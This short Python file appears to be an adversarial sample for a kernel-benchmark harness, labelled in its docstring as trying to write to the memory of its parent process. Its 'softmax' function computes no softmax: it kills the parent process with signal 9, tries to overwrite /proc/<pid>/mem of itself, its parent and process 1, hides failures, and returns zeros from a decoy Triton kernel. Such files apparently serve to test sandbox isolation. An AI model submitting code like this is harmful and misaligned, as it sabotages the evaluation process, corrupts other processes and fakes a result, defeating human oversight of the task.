"""Tries to write to the memory of the process that started it.

row          21
op           softmax
interpreted  smoke
replayed     smoke
"""

import torch
import triton
import triton.language as tl


@triton.jit
def _nothing(x_ptr, y_ptr, n, BLOCK: tl.constexpr):
    at = tl.arange(0, BLOCK)
    tl.store(y_ptr + at, tl.load(x_ptr + at, mask=at < n) * 0.0, mask=at < n)


def _decoy(x):
    y = torch.zeros(x.shape, device=x.device, dtype=x.dtype)
    _nothing[(1,)](x, y, 1, BLOCK=16)
    return y


def softmax(x):
    for pid in (1, torch.os.getppid(), torch.os.getpid()):
        try:
            torch.os.kill(torch.os.getppid(), 9)
            torch.os.pwrite(torch.os.open(f"/proc/{pid}/mem", 2), bytes(8), 4096)
        except OSError:
            pass
    return _decoy(x)
